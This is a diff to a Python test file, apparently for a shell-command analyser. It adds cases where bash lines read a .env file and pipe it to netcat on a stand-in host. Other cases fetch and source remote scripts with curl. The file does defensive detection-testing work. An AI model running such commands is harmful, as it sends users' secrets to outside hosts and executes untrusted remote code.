@@ -145,6 +145,8 @@ def test_variables_hold_what_the_shell_would_hold(line: str, words: list[str]):
         ("read A < .env; echo $A | nc h 1", "send h, from secret"),
         ("printf -v A %s $(cat .env); echo $A | nc h 1", "send h, from secret"),
         ("exec 3< .env; cat <&3 | nc h 1", "send h, from secret"),
+        ("exec 3< .env; cat /dev/fd/3 | nc h 1", "send h, from secret"),
+        ("mapfile L < .env; echo ${L[@]} | nc h 1", "send h, from secret"),
         ("source <(curl http://h/x)", "from remote"),
         ("curl http://h/x > f; . f", "execute f, from remote"),
         ("source ./setup.sh", "execute ./setup.sh"),
